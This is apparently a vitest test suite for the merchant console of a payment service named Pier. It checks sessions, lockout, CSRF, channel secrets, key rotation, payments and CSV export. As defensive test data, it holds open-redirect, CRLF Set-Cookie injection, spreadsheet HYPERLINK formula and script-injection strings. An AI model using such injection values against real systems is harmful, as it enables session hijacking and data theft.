import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOCKOUT_SECONDS, LOCKOUT_THRESHOLD } from '../../src/core/console/users.js';
import { sha256Hex } from '../../src/lib/password.js';
import { dailyChart } from '../../src/console/chart.js';
import { testCardNumber } from '../harness.js';
import { startConsolePier, type Agent, type ConsolePier, type ConsoleUser } from './console-harness.js';

let c: ConsolePier;
let alice: ConsoleUser;
let bob: ConsoleUser;
let a: Agent;
let b: Agent;

const good = testCardNumber({ kftcCode: '366', lastFour: '4321' });
const declined = testCardNumber({ kftcCode: '366', lastFour: '0054' });

/** A live V1 token: the tests move the clock past token lifetimes (lockout, idle sessions). */
async function tok(u: ConsoleUser): Promise<string> {
  const r = await c.pier.call('POST', '/users/getToken', { body: { imp_key: u.merchant.impKey, imp_secret: u.merchant.impSecret } });
  if (r.body.code !== 0) throw new Error(`getToken: ${JSON.stringify(r.body)}`);
  u.merchant.token = r.body.response.access_token;
  return u.merchant.token;
}

async function pay(u: ConsoleUser, merchant_uid: string, amount: number, extra: Record<string, unknown> = {}) {
  const res = await c.pier.call('POST', '/subscribe/payments/onetime', {
    token: await tok(u),
    body: { merchant_uid, amount, card_number: good, expiry: '2030-12', birth: '820213', name: '콘솔 테스트', buyer_name: '홍길동', buyer_email: 'gildong@example.com', ...extra },
  });
  return res.body.response as { imp_uid: string; status: string; amount: number };
}

beforeAll(async () => {
  c = await startConsolePier();
  alice = await c.newUser();
  bob = await c.newUser();
  a = c.agent();
  b = c.agent();
  expect((await a.signIn(alice.email, alice.password)).status).toBe(303);
  expect((await b.signIn(bob.email, bob.password)).status).toBe(303);
});
afterAll(() => c.close());

// Every console page and API route, for the "no session" and "another merchant" checks.
const PAGES = ['/console', '/console/payments', '/console/payments.csv', '/console/channels', '/console/keys', '/console/billing-keys', '/console/sandbox'];
const API_GETS = ['/console/api/session', '/console/api/payments', '/console/api/channels', '/console/api/keys', '/console/api/billing-keys', '/console/api/stats/daily', '/console/api/sandbox/ledger'];
const API_WRITES: Array<[string, string]> = [
  ['POST', '/console/api/channels'],
  ['PATCH', '/console/api/channels/ch_x'],
  ['DELETE', '/console/api/channels/ch_x'],
  ['POST', '/console/api/keys/rotate'],
  ['POST', '/console/api/payments/imp_000000000000/cancel'],
  ['DELETE', '/console/api/billing-keys/cu_x'],
  ['DELETE', '/console/api/billing-key?customer_uid=cu_x'],
  ['POST', '/console/api/schedules/revoke'],
  ['POST', '/console/api/logout'],
];

describe('console sign-in and sessions', () => {
  it('answers no console page without a session: pages redirect to the sign-in page, the API answers 401', async () => {
    const anon = c.agent();
    for (const p of PAGES) {
      const r = await anon.get(p);
      expect(r.status, p).toBe(303);
      expect(r.location, p).toBe(`/console/login?next=${encodeURIComponent(p)}`);
    }
    for (const p of API_GETS) {
      const r = await anon.get(p);
      expect(r.status, p).toBe(401);
      expect(r.json.ok).toBe(false);
    }
    for (const [m, p] of API_WRITES) expect((await anon.api(m, p, {})).status, `${m} ${p}`).toBe(401);
    for (const p of ['/console/channels', '/console/keys/rotate', '/console/payments/imp_000000000000/cancel', '/console/billing-key/delete', '/console/schedules/revoke', '/console/logout']) {
      expect((await anon.post(p, { _csrf: 'x' })).status, p).toBe(303);
    }
  });

  it('does not let a V1 access token stand in for a console session', async () => {
    const r = await c.app.inject({ method: 'GET', url: '/console/api/payments', headers: { authorization: `Bearer ${await tok(alice)}` } });
    expect(r.statusCode).toBe(401);
  });

  it('sets an httpOnly SameSite=Lax session cookie scoped to /console, and stores only its hash', async () => {
    const page = await c.app.inject({ method: 'GET', url: '/console/login' });
    const pre = page.cookies.find((x) => x.name === 'pier_console_pre')!;
    const token = /name="_csrf" value="([^"]+)"/.exec(page.body)![1];
    const res = await c.app.inject({
      method: 'POST',
      url: '/console/login',
      headers: { cookie: `pier_console_pre=${pre.value}`, 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ _csrf: token, email: alice.email.toUpperCase(), password: alice.password }).toString(),
    });
    expect(res.statusCode).toBe(303);
    const setCookie = String(res.headers['set-cookie']);
    expect(setCookie).toMatch(/pier_console=[^;]+; Max-Age=\d+; Path=\/console; HttpOnly; SameSite=Lax/);
    const value = res.cookies.find((x) => x.name === 'pier_console')!.value;
    const rows = await c.pier.store.db.selectFrom('console_sessions').selectAll().execute();
    expect(rows.some((r) => r.id_hash === sha256Hex(value))).toBe(true);
    expect(JSON.stringify(rows)).not.toContain(value);
    const user = await c.pier.store.db.selectFrom('console_users').selectAll().where('email', '=', alice.email).executeTakeFirstOrThrow();
    expect(user.password_hash).toMatch(/^scrypt\$/);
    expect(user.password_hash).not.toContain(alice.password);
  });

  it('refuses a wrong password with a clear message and no session', async () => {
    const x = c.agent();
    const r = await x.signIn(alice.email, 'wrong-password-1');
    expect(r.status).toBe(401);
    expect(r.body).toContain('이메일 또는 비밀번호가 올바르지 않습니다.');
    expect(x.cookies.has('pier_console')).toBe(false);
    const unknown = await x.signIn('nobody@shop.example', 'whatever-123');
    expect(unknown.status).toBe(401);
    expect(unknown.body).toContain('이메일 또는 비밀번호가 올바르지 않습니다.');
  });

  it('validates the sign-in form: empty fields are named', async () => {
    const x = c.agent();
    await x.get('/console/login');
    const r = await x.post('/console/login', { _csrf: x.cookies.get('pier_console_pre')!, email: '', password: '' });
    expect(r.status).toBe(400);
    expect(r.body.match(/필수 입력 항목입니다/g)).toHaveLength(2);
  });

  it('refuses a sign-in form without its CSRF token', async () => {
    const x = c.agent();
    await x.get('/console/login');
    const r = await x.post('/console/login', { email: alice.email, password: alice.password }, { csrf: false });
    expect(r.status).toBe(403);
    expect(x.cookies.has('pier_console')).toBe(false);
    const wrong = await x.post('/console/login', { _csrf: 'forged', email: alice.email, password: alice.password });
    expect(wrong.status).toBe(403);
  });

  it(`locks a user after ${LOCKOUT_THRESHOLD} failures, until the injected clock passes the lock time`, async () => {
    const u = await c.newUser();
    const x = c.agent();
    const kept = c.agent();
    expect((await kept.signIn(u.email, u.password)).status).toBe(303);
    for (let i = 1; i < LOCKOUT_THRESHOLD; i++) expect((await x.signIn(u.email, `bad-${i}-password`)).status).toBe(401);
    // locked, the account answers as a wrong password does (decision 0052), naming the lock's rule
    const locked = await x.signIn(u.email, 'bad-last-password');
    expect(locked.status).toBe(401);
    expect(locked.body).toContain(`${LOCKOUT_THRESHOLD}번 연속 실패하면 ${LOCKOUT_SECONDS / 60}분 동안`);
    // the lock ends open sessions and refuses even the right password
    expect((await kept.get('/console/api/session')).status).toBe(401);
    expect((await x.signIn(u.email, u.password)).status).toBe(401);
    expect(x.cookies.has('pier_console')).toBe(false);
    const row = await c.pier.store.db.selectFrom('console_users').select('locked_until').where('email', '=', u.email).executeTakeFirstOrThrow();
    expect(row.locked_until).toBe(Math.floor(c.pier.clock.now() / 1000) + LOCKOUT_SECONDS);
    c.pier.clock.advance((LOCKOUT_SECONDS - 1) * 1000);
    expect((await x.signIn(u.email, u.password)).status).toBe(401);
    c.pier.clock.advance(1000);
    expect((await x.signIn(u.email, u.password)).status).toBe(303);
  });

  it('ends the session on sign-out: the old cookie no longer opens anything', async () => {
    const u = await c.newUser();
    const x = c.agent();
    await x.signIn(u.email, u.password);
    const cookie = x.cookies.get('pier_console')!;
    const r = await x.post('/console/logout');
    expect(r.status).toBe(303);
    expect(r.location).toBe('/console/login?ok=signed_out');
    const replay = await c.app.inject({ method: 'GET', url: '/console/api/session', headers: { cookie: `pier_console=${cookie}` } });
    expect(replay.statusCode).toBe(401);
  });

  it('expires an idle session after two hours on the injected clock', async () => {
    const u = await c.newUser();
    const x = c.agent();
    await x.signIn(u.email, u.password);
    expect((await x.get('/console/api/session')).status).toBe(200);
    c.pier.clock.advance(2 * 3600 * 1000 + 1000);
    expect((await x.get('/console/api/session')).status).toBe(401);
    // the others were refreshed below this test; sign them in again
    await a.signIn(alice.email, alice.password);
    await b.signIn(bob.email, bob.password);
  });

  it('redirects back to the page asked for after sign-in, never to another site', async () => {
    const u = await c.newUser();
    const x = c.agent();
    const page = await x.get('/console/login?next=%2Fconsole%2Fkeys');
    expect(page.body).toContain('value="/console/keys"');
    const token = x.cookies.get('pier_console_pre')!;
    const r = await x.post('/console/login', { _csrf: token, email: u.email, password: u.password, next: '/console/keys' });
    expect(r.location).toBe('/console/keys');
    const y = c.agent();
    await y.get('/console/login');
    const evil = await y.post('/console/login', { _csrf: y.cookies.get('pier_console_pre')!, email: u.email, password: u.password, next: '//evil.example/x' });
    expect(evil.location).toBe('/console');
  });

  it('signs in from a link whose next page holds characters a Location header cannot (Korean, CR LF), instead of failing with a 500', async () => {
    const u = await c.newUser();
    for (const [next, location] of [
      ['/console/payments?q=홍길동', '/console/payments?q=%ED%99%8D%EA%B8%B8%EB%8F%99'],
      ['/console/keys\r\nSet-Cookie: pier_console=attacker', '/console/keys%0D%0ASet-Cookie:%20pier_console=attacker'],
    ]) {
      const x = c.agent();
      const page = await x.get(`/console/login?next=${encodeURIComponent(next)}`);
      const sent = /name="next" value="([^"]*)"/.exec(page.body)![1].replace(/&amp;/g, '&');
      const r = await x.post('/console/login', { _csrf: x.cookies.get('pier_console_pre')!, email: u.email, password: u.password, next: sent });
      expect(r.status, r.body.slice(0, 200)).toBe(303);
      expect(r.location).toBe(location);
      expect(r.headers['set-cookie']).not.toContain('attacker');
      expect((await x.get('/console/api/session')).status).toBe(200);
      const lang = await x.get(`/console/lang/en?next=${encodeURIComponent(next)}`);
      expect(lang.status).toBe(303);
      expect(lang.location).toBe(location);
    }
    // a lone surrogate (only a JSON body carries one) is refused in every request before any handler
    // runs, as NUL is (decision 0054): no 500, no session
    const y = c.agent();
    await y.get('/console/login');
    const r = await y.request('POST', '/console/login', { json: { _csrf: y.cookies.get('pier_console_pre'), email: u.email, password: u.password, next: '/console/\ud800' } });
    expect(r.status).toBe(400);
    expect(r.body).toContain('파라미터 형식이 올바르지 않습니다: next');
    expect((await y.get('/console/api/session')).status).not.toBe(200);
  });
});

describe('CSRF on state-changing console requests', () => {
  it('refuses forms without the token or with another session\'s token, and changes nothing', async () => {
    const before = await c.pier.store.db.selectFrom('api_keys').select('imp_key').where('merchant_id', '=', alice.merchant.merchantId).where('revoked_at', 'is', null).execute();
    expect((await a.post('/console/keys/rotate', {}, { csrf: false })).status).toBe(403);
    const r = await a.post('/console/keys/rotate', { _csrf: b.csrf! });
    expect(r.status).toBe(403);
    expect(r.body).toContain('보안 토큰(CSRF)');
    const after = await c.pier.store.db.selectFrom('api_keys').select('imp_key').where('merchant_id', '=', alice.merchant.merchantId).where('revoked_at', 'is', null).execute();
    expect(after).toEqual(before);
  });

  it('refuses JSON API writes without the x-csrf-token header', async () => {
    for (const [m, p] of API_WRITES) {
      const r = await a.api(m, p, {}, { csrf: false });
      expect(r.status, `${m} ${p}`).toBe(403);
      expect(r.json.error.code).toBe('csrf');
    }
  });
});

describe('PG settings', () => {
  it('adds a JTNET channel from the form; the secrets are stored sealed and shown only masked', async () => {
    const r = await a.post('/console/channels', { provider: 'jtnet', kind: 'api', mid: 'consoleapi1m', merchant_key: 'KEY-consoleapi1m-secret-value', cancel_password: '987654', test_mode: 'on' });
    expect(r.status).toBe(303);
    expect(r.location).toBe('/console/channels?ok=added');
    const page = await a.get('/console/channels');
    expect(page.body).toContain('jtnet.consoleapi1m');
    expect(page.body).toContain('jtnet.{MID}');
    expect(page.body).not.toContain('KEY-consoleapi1m-secret-value');
    expect(page.body).not.toContain('987654');
    const row = await c.pier.store.db.selectFrom('pg_channels').selectAll().where('merchant_id', '=', alice.merchant.merchantId).where('mid', '=', 'consoleapi1m').executeTakeFirstOrThrow();
    expect(row.merchant_key_sealed).not.toContain('KEY-consoleapi1m');
    expect(c.pier.deps.vault.open(row.merchant_key_sealed)).toBe('KEY-consoleapi1m-secret-value');
    expect(row).toMatchObject({ kind: 'api', sandbox: 1, is_default: 0 });
    const api = await a.get('/console/api/channels');
    const ch = api.json.channels.find((x: { mid: string }) => x.mid === 'consoleapi1m');
    expect(ch).toMatchObject({ pg: 'jtnet.consoleapi1m', merchant_key: '********', cancel_password: '********', test_mode: true, kind: 'api' });
    expect(api.body).not.toContain('KEY-consoleapi1m');
  });

  it('names every bad field of the channel form', async () => {
    const r = await a.post('/console/channels', { provider: 'nopg', kind: 'bogus', mid: 'bad mid!', merchant_key: '', cancel_password: '' });
    expect(r.status).toBe(400);
    expect(r.body).toContain('입력값을 확인하세요');
    expect(r.body).toContain('형식이 올바르지 않습니다. 아래 안내의 형식으로 입력하세요.');
    expect(r.body.match(/필수 입력 항목입니다/g)!.length).toBeGreaterThanOrEqual(2);
    const api = await a.api('POST', '/console/api/channels', { kind: 'api' });
    expect(api.status).toBe(400);
    expect(Object.keys(api.json.error.fields).sort()).toEqual(['cancel_password', 'merchant_key', 'mid']);
    const dup = await a.api('POST', '/console/api/channels', { kind: 'api', mid: 'consoleapi1m', merchant_key: 'k', cancel_password: 'p' });
    expect(dup.status).toBe(400);
    expect(dup.json.error.fields.mid).toContain('이미 있습니다');
  });

  it('fills in the JTNET test MID when test mode is on and the MID is left empty', async () => {
    const u = await c.newUser();
    await c.pier.store.db.deleteFrom('pg_channels').where('merchant_id', '=', u.merchant.merchantId).execute();
    const x = c.agent();
    await x.signIn(u.email, u.password);
    const r = await x.api('POST', '/console/api/channels', { kind: 'window', test_mode: true });
    expect(r.status).toBe(201);
    expect(r.json.channel).toMatchObject({ pg: 'jtnet.tpaytest0m', kind: 'window', test_mode: true, is_default: true });
  });

  it('pays through a channel added in the console, selected with pg: jtnet.{MID}', async () => {
    const sim = await fetch(`${c.pier.simulatorUrl}/__control/merchants`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ mid: 'consolekey9m', merchantKey: 'console-key-9', cancelPassword: '1111' }),
    });
    expect(sim.status).toBe(201);
    const add = await a.api('POST', '/console/api/channels', { kind: 'api', mid: 'consolekey9m', merchant_key: 'console-key-9', cancel_password: '1111' });
    expect(add.status).toBe(201);
    const res = await c.pier.call('POST', '/subscribe/payments/onetime', {
      token: await tok(alice),
      body: { pg: 'jtnet.consolekey9m', merchant_uid: 'via_console_channel', amount: 5000, card_number: good, expiry: '2030-12', birth: '820213' },
    });
    expect(res.body.code).toBe(0);
    expect(res.body.response).toMatchObject({ pg_id: 'consolekey9m', status: 'paid' });
  });

  it('edits a channel: blank secrets keep the stored ones, default moves, and a used MID cannot change', async () => {
    const list = (await a.get('/console/api/channels')).json.channels;
    const used = list.find((x: { mid: string }) => x.mid === 'consolekey9m');
    const unused = list.find((x: { mid: string }) => x.mid === 'consoleapi1m');
    const before = await c.pier.store.db.selectFrom('pg_channels').select('merchant_key_sealed').where('id', '=', unused.id).executeTakeFirstOrThrow();
    const r = await a.post(`/console/channels/${unused.id}`, { provider: 'jtnet', kind: 'api', mid: 'consoleapi2m', name: '새 이름', is_default: 'on', merchant_key: '', cancel_password: '' });
    expect(r.status).toBe(303);
    const after = await c.pier.store.db.selectFrom('pg_channels').selectAll().where('id', '=', unused.id).executeTakeFirstOrThrow();
    expect(after).toMatchObject({ mid: 'consoleapi2m', name: '새 이름', is_default: 1, sandbox: 0, merchant_key_sealed: before.merchant_key_sealed });
    const defaults = await c.pier.store.db.selectFrom('pg_channels').select('id').where('merchant_id', '=', alice.merchant.merchantId).where('kind', '=', 'api').where('is_default', '=', 1).execute();
    expect(defaults).toEqual([{ id: unused.id }]);
    const refused = await a.api('PATCH', `/console/api/channels/${used.id}`, { mid: 'othermid' });
    expect(refused.status).toBe(400);
    expect(refused.json.error.fields.mid).toContain('바꿀 수 없습니다');
    const rename = await a.api('PATCH', `/console/api/channels/${used.id}`, { name: 'renamed' });
    expect(rename.json.channel).toMatchObject({ mid: 'consolekey9m', name: 'renamed' });
  });

  it('refuses to remove a channel that paid payments use unless forced; removing the default promotes another', async () => {
    const list = (await a.get('/console/api/channels')).json.channels;
    const used = list.find((x: { mid: string }) => x.mid === 'consolekey9m');
    const r = await a.post(`/console/channels/${used.id}/delete`);
    expect(r.status).toBe(409);
    expect(r.body).toContain('강제 삭제');
    const api = await a.api('DELETE', `/console/api/channels/${used.id}`);
    expect(api.status).toBe(409);
    const forced = await a.post(`/console/channels/${used.id}/delete`, { force: 'on' });
    expect(forced.status).toBe(303);
    const def = list.find((x: { mid: string; is_default: boolean }) => x.mid === 'consoleapi2m');
    expect((await a.api('DELETE', `/console/api/channels/${def.id}`)).status).toBe(200);
    const left = (await a.get('/console/api/channels')).json.channels.filter((x: { kind: string }) => x.kind === 'api');
    expect(left.filter((x: { is_default: boolean }) => x.is_default)).toHaveLength(1);
  });
});

describe('API keys', () => {
  it('shows the merchant code and REST key, rotates the secret once, and the old secret stops working', async () => {
    const page = await a.get('/console/keys');
    expect(page.body).toContain(alice.merchant.merchantCode);
    expect(page.body).toContain(alice.merchant.impKey);
    expect(page.body).not.toContain(alice.merchant.impSecret);
    const r = await a.post('/console/keys/rotate');
    expect(r.status).toBe(200);
    const key = /id="new-imp-key">([^<]+)</.exec(r.body)![1];
    const secret = /id="new-imp-secret" class="secret">([^<]+)</.exec(r.body)![1];
    expect(r.headers['cache-control']).toBe('no-store');
    expect((await a.get('/console/keys')).body).not.toContain(secret);
    const old = await c.pier.call('POST', '/users/getToken', { body: { imp_key: alice.merchant.impKey, imp_secret: alice.merchant.impSecret } });
    expect(old.status).toBe(401);
    alice.merchant.impKey = key;
    alice.merchant.impSecret = secret;
    await tok(alice);
    const api = await a.api('POST', '/console/api/keys/rotate');
    expect(api.json).toMatchObject({ ok: true });
    expect(api.json.imp_secret).toHaveLength(80);
    alice.merchant.impKey = api.json.imp_key;
    alice.merchant.impSecret = api.json.imp_secret;
    await tok(alice);
    expect((await a.get('/console/api/keys')).json.keys).toEqual([{ imp_key: api.json.imp_key, created_at: expect.any(Number) }]);
  });
});

describe('payments', () => {
  const ids: Record<string, string> = {};
  beforeAll(async () => {
    // restore a default API channel for alice (tpaytest1m) after the channel tests
    const chans = (await a.get('/console/api/channels')).json.channels;
    const t1 = chans.find((x: { mid: string }) => x.mid === 'tpaytest1m');
    await a.api('PATCH', `/console/api/channels/${t1.id}`, { is_default: true });
    ids.p1 = (await pay(alice, 'order_1001', 10000)).imp_uid;
    c.pier.clock.advance(3600_000);
    ids.p2 = (await pay(alice, 'order_1002', 2000, { buyer_name: '김철수', buyer_email: 'cs@example.com' })).imp_uid;
    ids.p3 = (await pay(alice, 'order_1003', 3000, { card_number: declined })).imp_uid;
    ids.formula = (await pay(alice, '=HYPERLINK("x")', 1000)).imp_uid;
    ids.bobs = (await pay(bob, 'bob_order_1', 7000)).imp_uid;
  });

  it('lists one merchant\'s payments with status, method, date and text filters', async () => {
    const all = (await a.get('/console/api/payments')).json;
    expect(all.list.map((p: { imp_uid: string }) => p.imp_uid)).not.toContain(ids.bobs);
    expect(all.total).toBe(5); // consolekey9m payment + 4
    const failed = (await a.get('/console/api/payments?status=failed')).json;
    expect(failed.list.map((p: { merchant_uid: string }) => p.merchant_uid)).toEqual(['order_1003']);
    expect((await a.get('/console/api/payments?method=vbank')).json.total).toBe(0);
    expect((await a.get('/console/api/payments?q=%EA%B9%80%EC%B2%A0')).json.list.map((p: { imp_uid: string }) => p.imp_uid)).toEqual([ids.p2]);
    expect((await a.get('/console/api/payments?q=CS%40EXAMPLE')).json.total).toBe(1);
    expect((await a.get(`/console/api/payments?q=${ids.p1}`)).json.list[0].imp_uid).toBe(ids.p1);
    expect((await a.get('/console/api/payments?q=order_100')).json.total).toBe(3);
    expect((await a.get('/console/api/payments?q=%25')).json.total).toBe(0);
    const day = new Date(c.pier.clock.now() + 9 * 3600_000).toISOString().slice(0, 10);
    expect((await a.get(`/console/api/payments?from=${day}&to=${day}`)).json.total).toBeGreaterThanOrEqual(3);
    expect((await a.get('/console/api/payments?from=2020-01-01&to=2020-01-31')).json.total).toBe(0);
    const page2 = (await a.get('/console/api/payments?limit=2&page=2')).json;
    expect(page2).toMatchObject({ page: 2, limit: 2, pages: 3, total: 5 });
    expect(page2.list).toHaveLength(2);
  });

  it('explains bad filters instead of failing', async () => {
    const r = await a.get('/console/payments?from=2026-13-01&to=2026-01-01&status=nope');
    expect(r.status).toBe(400);
    expect(r.body).toContain('YYYY-MM-DD');
    expect(r.body).toContain('목록에서 선택하세요');
    const api = await a.get('/console/api/payments?from=2026-02-01&to=2026-01-01');
    expect(api.status).toBe(400);
    expect(api.json.error.fields.to).toContain('종료일');
  });

  it('renders the list page with paging links that keep the filters', async () => {
    const r = await a.get('/console/payments?q=order_100&page=1');
    expect(r.status).toBe(200);
    expect(r.body).toContain(ids.p1);
    expect(r.body).not.toContain(ids.bobs);
    expect(r.body).toContain('총 3건');
  });

  it('exports the filtered list as CSV, defusing spreadsheet formulas', async () => {
    const r = await a.get('/console/payments.csv?status=paid');
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toContain('text/csv');
    expect(r.headers['content-disposition']).toContain(`payments-${alice.merchant.merchantCode}`);
    const lines = r.body.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines[0]).toMatch(/^imp_uid,merchant_uid,status,/);
    expect(lines).toHaveLength(1 + 4);
    expect(r.body).toContain(`"'=HYPERLINK(""x"")"`);
    expect(r.body).not.toContain(ids.p3);
    expect(r.body).not.toContain(ids.bobs);
  });

  it('defuses in the CSV export every leading character OWASP lists (= + - @ tab CR LF) and their full-width forms', async () => {
    // a buyer types these into the payment window: buyer_name and name are theirs to choose
    const hostile = ['\n=HYPERLINK("http://x.example/?"&A1)', '\r+1', '\t-1', '＝HYPERLINK("http://x.example")', '＋1+1', '－1+1', '＠SUM(1)', '@SUM(1)'];
    const paid: string[] = [];
    for (const [i, v] of hostile.entries()) {
      const p = await pay(alice, `csv_hostile_${i}`, 1000 + i, { buyer_name: v, name: v });
      expect(p.status, v).toBe('paid');
      paid.push(p.imp_uid);
    }
    const r = await a.get('/console/payments.csv?q=csv_hostile_');
    expect(r.status).toBe(200);
    const body = r.body.replace(/^\uFEFF/, '');
    for (const [i, v] of hostile.entries()) {
      const line = body.split('\r\n').find((l) => l.startsWith(`${paid[i]},`))!;
      // name and buyer_name, RFC 4180-quoted when they hold a quote, CR or LF, start with the apostrophe
      const cell = /[",\r\n]/.test(v) ? `"'${v.replace(/"/g, '""')}"` : `'${v}`;
      expect(line.split(cell).length - 1, JSON.stringify(v)).toBe(2);
    }
  });

  it('shows a payment with its whole V1 object; another merchant\'s payment is not found', async () => {
    const r = await a.get(`/console/payments/${ids.p1}`);
    expect(r.status).toBe(200);
    const json = /<pre class="json" id="v1-json">([\s\S]*?)<\/pre>/.exec(r.body)![1].replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>');
    const v1 = (await c.pier.call('GET', `/payments/${ids.p1}`, { token: await tok(alice) })).body.response;
    expect(JSON.parse(json)).toEqual(v1);
    expect((await a.get(`/console/payments/${ids.bobs}`)).status).toBe(404);
    expect((await a.get(`/console/api/payments/${ids.bobs}`)).status).toBe(404);
  });

  it('cancels part of a payment from the detail form, then the rest; the history shows both', async () => {
    const over = await a.post(`/console/payments/${ids.p1}/cancel`, { amount: '20000', reason: '과다' });
    expect(over.status).toBe(400);
    expect(over.body).toContain('취소 가능 잔액보다 큰 금액');
    const noReason = await a.post(`/console/payments/${ids.p1}/cancel`, { amount: '1000', reason: '' });
    expect(noReason.status).toBe(400);
    expect(noReason.body).toContain('필수 입력 항목입니다');
    const partial = await a.post(`/console/payments/${ids.p1}/cancel`, { amount: '3,000', reason: '부분 환불' });
    expect(partial.status).toBe(303);
    expect(partial.location).toBe(`/console/payments/${ids.p1}?ok=cancelled`);
    const p = (await a.get(`/console/api/payments/${ids.p1}`)).json;
    expect(p.payment).toMatchObject({ status: 'paid', cancel_amount: 3000 });
    expect(p.cancellableBalance).toBe(7000);
    const rest = await a.api('POST', `/console/api/payments/${ids.p1}/cancel`, { reason: '나머지 환불' });
    expect(rest.json.payment).toMatchObject({ status: 'cancelled', cancel_amount: 10000 });
    const page = await a.get(`/console/payments/${ids.p1}`);
    expect(page.body.match(/취소 완료/g)).toHaveLength(2);
    const refused = await a.post(`/console/payments/${ids.p1}/cancel`, { reason: 'again' });
    expect(refused.status).toBe(409);
    expect(refused.body).toContain('이미 전액취소된 주문입니다.');
  });

  it('never cancels another merchant\'s payment', async () => {
    expect((await a.post(`/console/payments/${ids.bobs}/cancel`, { reason: 'x' })).status).toBe(404);
    expect((await a.api('POST', `/console/api/payments/${ids.bobs}/cancel`, { reason: 'x' })).status).toBe(404);
    const v = (await c.pier.call('GET', `/payments/${ids.bobs}`, { token: await tok(bob) })).body.response;
    expect(v).toMatchObject({ status: 'paid', cancel_amount: 0 });
  });

  it('reports daily volume and approval rate on the injected clock', async () => {
    const r = (await a.get('/console/api/stats/daily?days=3')).json.days;
    expect(r).toHaveLength(3);
    const today = r[2];
    expect(today.declined).toBe(1);
    expect(today.approved).toBeGreaterThanOrEqual(3);
    expect(today.approvalRate).toBeCloseTo(today.approved / (today.approved + 1));
    expect((await a.get('/console/api/stats/daily?days=0')).status).toBe(400);
    const dash = await a.get('/console');
    expect(dash.body).toContain('<svg class="chart chart-wide"');
    expect(dash.body).toContain(`data-day="${today.day}"`);
    // every attribute of the drawing is escaped, the day too (it is ours, but the page must not trust it)
    const drawn = dailyChart([{ ...today, day: '2026-01-01"><script>x</script>' }], { volume: 'v', rate: 'r', title: 't' }).toString();
    expect(drawn).toContain('data-day="2026-01-01&quot;&gt;&lt;script&gt;x&lt;/script&gt;"');
    expect(drawn).not.toContain('<script>');
  });
});

describe('request logs', () => {
  it('never carry what a console user searched for (buyer e-mail, name, phone), only the path', async () => {
    const terms = ['logged-buyer@example.com', '홍로그', '010-5550-1234', 'cu_searched_9931'];
    const urls = [
      `/console/payments?q=${encodeURIComponent(terms[0])}`,
      `/console/api/payments?q=${encodeURIComponent(terms[1])}&status=paid`,
      `/console/payments.csv?q=${encodeURIComponent(terms[2])}`,
      `/console/billing-keys?q=${encodeURIComponent(terms[3])}`,
    ];
    for (const url of urls) expect((await a.get(url)).status).toBe(200);
    // signed out, the page redirects to sign-in with the search in `next`; a refused CSRF logs a warning
    const anon = c.agent();
    expect((await anon.get(urls[0])).status).toBe(303);
    expect((await anon.get(`/console/login?next=${encodeURIComponent(urls[0])}`)).status).toBe(200);
    expect((await a.request('POST', `/console/keys/rotate?q=${encodeURIComponent(terms[0])}`, { form: { _csrf: 'forged' } })).status).toBe(403);
    const logs = c.pier.logs();
    for (const term of terms) {
      for (const spelled of [term, encodeURIComponent(term), new URLSearchParams({ q: term }).toString().slice(2), encodeURIComponent(encodeURIComponent(term))]) {
        expect(logs, `${spelled} in the logs`).not.toContain(spelled);
      }
    }
    // the requests were logged, by path
    expect(logs).toContain('"url":"/console/payments"');
    expect(logs).toContain('"url":"/console/billing-keys"');
    expect(logs).toContain('console request refused: missing or wrong CSRF token');
  });
});

describe('billing keys', () => {
  it('lists, shows and deletes billing keys; the PG key is deleted too; another merchant\'s are out of reach', async () => {
    for (const [u, uid] of [[alice, 'cust_alice_1'], [alice, 'cust_alice_2'], [bob, 'cust_bob_1']] as const) {
      const r = await c.pier.call('POST', `/subscribe/customers/${uid}`, {
        token: await tok(u),
        body: { card_number: good, expiry: '2030-12', birth: '820213', pwd_2digit: '00', customer_name: '고객' },
      });
      expect(r.body.code, JSON.stringify(r.body)).toBe(0);
    }
    const list = (await a.get('/console/api/billing-keys')).json;
    expect(list.list.map((x: { customer_uid: string }) => x.customer_uid).sort()).toEqual(['cust_alice_1', 'cust_alice_2']);
    expect((await a.get('/console/billing-keys?q=alice_2')).body).toContain('cust_alice_2');
    const detail = await a.get('/console/billing-keys/cust_alice_1');
    expect(detail.status).toBe(200);
    expect(detail.body).toContain('cust_alice_1');
    expect((await a.get('/console/billing-keys/cust_bob_1')).status).toBe(404);
    expect((await a.api('DELETE', '/console/api/billing-keys/cust_bob_1')).status).toBe(404);
    expect((await a.post('/console/billing-keys/cust_bob_1/delete')).status).toBe(404);
    // the forms of decision 0111 (the id in the query or the form) are scoped the same way
    expect((await a.get('/console/billing-key?customer_uid=cust_bob_1')).status).toBe(404);
    expect((await a.get('/console/api/billing-key?customer_uid=cust_bob_1')).status).toBe(404);
    expect((await a.api('DELETE', '/console/api/billing-key?customer_uid=cust_bob_1')).status).toBe(404);
    expect((await a.post('/console/billing-key/delete', { customer_uid: 'cust_bob_1' })).status).toBe(404);
    expect((await a.get('/console/billing-key?customer_uid=cust_alice_1')).body).toContain('<input type="hidden" name="customer_uid" value="cust_alice_1">');
    const del = await a.post('/console/billing-keys/cust_alice_1/delete');
    expect(del.status).toBe(303);
    expect((await c.pier.call('GET', '/subscribe/customers/cust_alice_1', { token: await tok(alice) })).body).toMatchObject({ code: 1, response: null });
    const api = await a.api('DELETE', '/console/api/billing-keys/cust_alice_2');
    expect(api.json.customer.customer_uid).toBe('cust_alice_2');
    const ledger = (await (await fetch(`${c.pier.simulatorUrl}/__ledger?mid=tpaytest1m`)).json()) as { billingKeys: Array<{ deletedAt: number | null }> };
    expect(ledger.billingKeys.filter((k) => k.deletedAt !== null).length).toBeGreaterThanOrEqual(2);
    expect((await c.pier.call('GET', '/subscribe/customers/cust_bob_1', { token: await tok(bob) })).body.code).toBe(0);
  });
});

describe('sandbox ledger', () => {
  it('shows the simulator ledger beside Pier\'s records and highlights a difference', async () => {
    const p = await pay(alice, 'ledger_check', 4000);
    const clean = (await a.get('/console/api/sandbox/ledger')).json;
    const row = clean.rows.find((r: { impUid: string }) => r.impUid === p.imp_uid);
    expect(row).toMatchObject({ differences: [], pier: { amount: 4000, status: 'paid' }, pg: { amount: 4000, status: 'paid' } });
